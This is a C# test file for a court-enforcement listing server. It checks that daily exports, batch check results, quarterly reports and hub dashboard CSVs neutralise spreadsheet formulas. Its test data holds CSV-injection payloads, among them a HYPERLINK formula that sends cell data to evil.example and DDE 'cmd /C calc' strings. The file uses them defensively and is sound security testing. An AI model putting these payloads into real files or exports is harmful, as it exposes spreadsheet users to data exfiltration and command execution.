using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.RegularExpressions;
using Shixin.Server.Http;
using static Shixin.Server.Tests.Distribution.DistKit;

namespace Shixin.Server.Tests.Distribution;

/// <summary>
/// Issue 11 F6: names, court and unit names that start like a formula reach a unit's spreadsheet as text in every CSV
/// the platform writes (OWASP: a leading single quote, the cell quoted).
/// </summary>
public sealed class CsvInjectionTests
{
    private static readonly string[] Formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2"];

    [Theory]
    [InlineData("=1+2", "\"'=1+2\"")]
    [InlineData("+1", "\"'+1\"")]
    [InlineData("-1", "\"'-1\"")]
    [InlineData("@SUM(A1)", "\"'@SUM(A1)\"")]
    [InlineData("\t=1", "\"'\t=1\"")]
    [InlineData("\r=1", "\"'\r=1\"")]
    [InlineData("=\"x\",y", "\"'=\"\"x\"\",y\"")]
    [InlineData("王五", "王五")]
    [InlineData("王\"五\",有限", "\"王\"\"五\"\",有限\"")]
    [InlineData("甲;=1+2", "\"甲;=1+2\"")]
    [InlineData("a=1", "a=1")]
    [InlineData("", "")]
    public void A_cell_is_neutralised_and_quoted(string value, string written) => CsvText.Cell(value).ShouldBe(written);

    [Fact]
    public async Task Daily_export_batch_results_and_quarterly_report_write_formulas_as_text()
    {
        await using var s = await ShixinServer.StartAsync(Db.Sqlite);
        var courtName = Formulas[0];
        var courtCode = Unique("court-");
        (await s.Admin.PostAsJsonAsync("/api/v1/organizations", new { kind = "court", code = courtCode, name = courtName, region = "440802" }, Ct))
            .StatusCode.ShouldBe(HttpStatusCode.Created);
        var court = new DistCourt(courtCode, await KeyAsync(s.Admin, courtCode, "court.clerk"), await KeyAsync(s.Admin, courtCode, "court.judge"));
        var unitCode = Unique("unit-");
        var unitName = Formulas[3];
        (await s.Admin.PostAsJsonAsync("/api/v1/organizations", new { kind = "unit", code = unitCode, name = unitName, region = "440802" }, Ct))
            .StatusCode.ShouldBe(HttpStatusCode.Created);
        var unit = await KeyAsync(s.Admin, unitCode, "unit.subscriber", "unit.checker", "unit.feedback");

        var listed = new List<Listed>();
        foreach (var name in Formulas)
        {
            listed.Add(await court.ListAsync(name: name));
        }

        // The daily export: every name and the court's name arrive as text.
        var text = Encoding.UTF8.GetString(await unit.GetByteArrayAsync("/api/v1/exports/daily/" + Iso(Today) + ".csv", Ct)).TrimStart('\uFEFF');
        var rows = ParseCsv(text);
        var header = rows[0];
        var body = rows.Skip(1).ToList();
        body.Count.ShouldBe(Formulas.Length);
        // (The platform trims a name's leading tab or line break; the formula behind it is neutralised all the same.)
        body.Select(r => r[header.IndexOf("被执行人姓名/名称")]).ShouldBe(Formulas.Select(f => "'" + f.Trim()));
        body.ShouldAllBe(r => r[header.IndexOf("执行法院")] == "'" + courtName);
        AssertNoFormulaCell(rows);

        // Batch results: the court's name in the hit line.
        await Until(() => unit.HitAsync(listed[0].IdNumber), TimeSpan.FromSeconds(20), "the index has the entry");
        using var content = new StringContent("idNumber\n" + listed[0].IdNumber + "\n", Encoding.UTF8, "text/csv");
        var batch = await unit.PostAsync("/api/v1/checks/batch?scenario=civil-aviation.ticket", content, Ct);
        var batchText = await batch.Content.ReadAsStringAsync(Ct);
        batch.StatusCode.ShouldBe(HttpStatusCode.OK, batchText);
        var batchRows = ParseCsv(batchText.TrimStart('\uFEFF').Replace("\n", "\r\n", StringComparison.Ordinal));
        batchRows[1][2].ShouldBe("block");
        batchRows[1][6].ShouldBe("'" + courtName);
        AssertNoFormulaCell(batchRows);

        // The quarterly report: the unit's name.
        var quarter = ((Today.Month - 1) / 3) + 1;
        var quarterly = await s.Admin.GetStringAsync(string.Create(CultureInfo.InvariantCulture,
            $"/api/v1/reports/quarterly?year={Today.Year}&quarter={quarter}&format=csv&organization={unitCode}"), Ct);
        var quarterlyRows = ParseCsv(quarterly.TrimStart('\uFEFF'));
        quarterlyRows.Skip(1).ShouldContain(r => r[1] == "'" + unitName);
        AssertNoFormulaCell(quarterlyRows);

        // The hub dashboard's CSV downloads (signed in as hub staff): the court's and the unit's names.
        using var hub = await HubStaffAsync(s);
        var courts = await HubCsvAsync(hub, "courts");
        courts.Skip(1).ShouldContain(r => r[0] == courtCode && r[1] == "'" + courtName);
        AssertNoFormulaCell(courts);
        var checks = await HubCsvAsync(hub, "checks");
        checks.Skip(1).ShouldContain(r => r[0] == unitCode && r[1] == "'" + unitName);
        AssertNoFormulaCell(checks);
        AssertNoFormulaCell(await HubCsvAsync(hub, "compliance"));
    }

    /// <summary>A browser session of a new hub staff account (the dashboard's downloads take the staff cookie).</summary>
    private static async Task<HttpClient> HubStaffAsync(ShixinServer s)
    {
        const string password = "correct-horse-battery";
        var user = Unique("staff.");
        (await s.Admin.PostAsJsonAsync("/api/v1/organizations/hub/users", new { userName = user, password, roles = new[] { "hub.admin", "hub.auditor" } }, Ct))
            .StatusCode.ShouldBe(HttpStatusCode.Created);
        var browser = new HttpClient(new HttpClientHandler { CookieContainer = new CookieContainer(), AllowAutoRedirect = false }) { BaseAddress = s.BaseAddress };
        var form = await browser.GetStringAsync("/signin", Ct);
        var token = Regex.Match(form, "name=\"__RequestVerificationToken\" type=\"hidden\" value=\"([^\"]+)\"");
        token.Success.ShouldBeTrue("an antiforgery token on /signin");
        var signIn = await browser.PostAsync("/signin", new FormUrlEncodedContent(new Dictionary<string, string>
        {
            ["UserName"] = user, ["Password"] = password, ["__RequestVerificationToken"] = WebUtility.HtmlDecode(token.Groups[1].Value),
        }), Ct);
        signIn.StatusCode.ShouldBe(HttpStatusCode.Redirect, "signed in");
        return browser;
    }

    private static async Task<List<List<string>>> HubCsvAsync(HttpClient hub, string table)
    {
        using var r = await hub.GetAsync("/hub?handler=csv&table=" + table, Ct);
        var text = await r.Content.ReadAsStringAsync(Ct);
        r.StatusCode.ShouldBe(HttpStatusCode.OK, table + ": " + text);
        r.Content.Headers.ContentType!.MediaType.ShouldBe("text/csv");
        return ParseCsv(text.TrimStart('\uFEFF'));
    }

    private static void AssertNoFormulaCell(List<List<string>> rows)
    {
        foreach (var cell in rows.SelectMany(r => r))
        {
            CsvText.IsFormulaLike(cell).ShouldBeFalse(cell);
        }
    }
}
